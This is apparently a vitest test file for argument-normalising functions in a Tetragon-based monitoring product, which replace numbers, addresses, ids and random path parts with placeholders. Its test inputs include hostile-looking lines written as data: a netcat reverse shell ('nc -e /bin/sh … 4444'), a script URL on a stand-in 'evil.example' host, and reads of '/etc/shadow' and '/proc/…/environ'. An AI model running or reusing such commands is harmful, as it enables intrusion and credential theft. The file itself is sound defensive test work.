import { describe, expect, it } from 'vitest';
import { MAX_SHAPE_CHARACTERS } from '../limits';
import { argumentsShape, valueShape } from './arguments_shape';

describe('argumentsShape', () => {
  it.each([
    // From Tetragon's own samples and this product's sample events.
    ['-s http://x', '-s http://x'],
    ['-c "curl https://ebpf.io/"', '-c "curl https://ebpf.io/"'],
    ['--port 80 --host 0.0.0.0', '--port <number> --host <address>'],
    [
      '/usr/local/bin/json-server --host  --port 80',
      '/usr/local/bin/json-server --host --port <number>',
    ],
    [
      '-namespace k8s.io -id 6aa99f632d557da37af7aac66e6508ebe966cda09fcff83b080e5764432a75d9 -address /run/containerd/containerd.sock',
      '-namespace k8s.io -id <hex> -address /run/containerd/containerd.sock',
    ],
    [
      '-o ro,bind /run/containerd/io.containerd.runtime.v2.task/k8s.io/8d5d9f5c53d931cc7c1419ae7aeeca301018a96609aa63150585ca679e76bd0c/rootfs/product_name',
      '-o ro,bind /run/containerd/io.containerd.runtime.v2.task/k8s.io/<hex>/rootfs/product_name',
    ],
    // Options are kept, also those that are numbers or end in one.
    ['-9 4711', '-9 <number>'],
    ['-O2 -j8 -Xmx512m', '-O2 -j8 -Xmx512m'],
    ['--max-old-space-size=4096 --name=api', '--max-old-space-size=<number> --name=api'],
    ['-', '-'],
    // Numbers with and without units, versions.
    ['30s 1.5 512Mi 90% 1.2.3', '<number>s <number> <number>Mi <number>% <number>'],
    ['17 18 19', '<number> <number> <number>'],
    // What only looks variable.
    ['python3 sha256sum utf16 log4j2 k8s facade', 'python3 sha256sum utf16 log4j2 k8s facade'],
    ['std::string a::b', 'std::string a::b'],
    ['getUserNameById', 'getUserNameById'],
    // Addresses.
    ['nc -e /bin/sh 203.0.113.9 4444', 'nc -e /bin/sh <address> <number>'],
    [
      '10.0.0.0/8 [fe80::1]:443 ::1 aa:bb:cc:dd:ee:0f',
      '<address>/<number> [<address>]:<number> <address> <address>',
    ],
    ['https://10.1.2.3:8443/v1/items?id=77', 'https://<address>:<number>/v1/items?id=<number>'],
    ['http://evil.example/x.sh', 'http://evil.example/x.sh'],
    // Ids and times.
    ['--id 3F2504E0-4F89-11D3-9A0C-0305E82C3301', '--id <uuid>'],
    ['kubepods-pod3f2504e0_4f89_11d3_9a0c_0305e82c3301.slice', 'kubepods-pod<uuid>.slice'],
    ['0xffff8880a1b2c3d4 a1b2c3d', '<hex> <hex>'],
    ['--since 2026-11-25T10:00:00.123Z 2026-11-25 10:15:00', '--since <time> <time> <time>'],
    // Variable parts of paths.
    ['/proc/4711/environ', '/proc/<number>/environ'],
    ['/tmp/tmp.Xk3dF9aB2q/out', '/tmp/tmp.<random>/out'],
    ['/tmp/tmpa1b2c3_d/x', '/tmp/tmp<random>/x'],
    [
      '/usr/lib/tmpfiles.d/x.conf /usr/sbin/tmpreaper',
      '/usr/lib/tmpfiles.d/x.conf /usr/sbin/tmpreaper',
    ],
    [
      '/var/log/pods/shop_api-7c9f8d6b5-x2x4z/api/0.log',
      '/var/log/pods/shop_api-<random>/api/<number>.log',
    ],
    ['/data/part00012.csv /data/db-0', '/data/part<number>.csv /data/db-<number>'],
    ['/var/log/access.log.1', '/var/log/access.log.<number>'],
    ['/cache/aB3dE5fG7h', '/cache/<random>'],
    ['', ''],
  ])('of %j is %j', (args, shape) => {
    expect(argumentsShape(args)).toBe(shape);
  });

  it('is its own shape', () => {
    const shape = argumentsShape('-c "sleep 5; curl 10.0.0.1:80" --at=10:00:00 /tmp/tmp.abcdefgh');
    expect(argumentsShape(shape)).toBe(shape);
  });

  it('says where it stopped, and reads 100 kB of hostile text at once', () => {
    const shape = argumentsShape('a:1'.repeat(40_000));
    expect(shape.endsWith('…')).toBe(true);
    expect(shape.length).toBeLessThanOrEqual(MAX_SHAPE_CHARACTERS * 9);
  });
});

describe('valueShape', () => {
  it.each([
    ['/etc/shadow', '/etc/shadow'],
    ['10.0.0.7:43122 → 203.0.113.9:443', '<address>:<number> → <address>:<number>'],
    ['-5', '-<number>'],
  ])('of %j is %j', (value, shape) => {
    expect(valueShape(value)).toBe(shape);
  });
});
